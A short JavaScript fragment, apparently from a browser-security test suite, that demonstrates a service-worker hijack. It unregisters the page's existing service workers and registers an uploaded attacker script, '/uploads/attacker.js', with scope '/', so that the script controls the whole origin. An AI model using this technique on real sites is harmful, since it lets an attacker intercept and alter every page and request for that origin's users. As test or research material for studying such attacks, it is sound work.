// G-25, H-33: a service worker, where the origin serves a script of the attacker's (an upload, a JSONP endpoint).

const controlled = new Promise((resolve) => navigator.serviceWorker.addEventListener("controllerchange", resolve));
prepared = Promise.race([controlled, wait(3_000)]);
for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
await navigator.serviceWorker.register("/uploads/attacker.js", { scope: "/" });
await prepared;
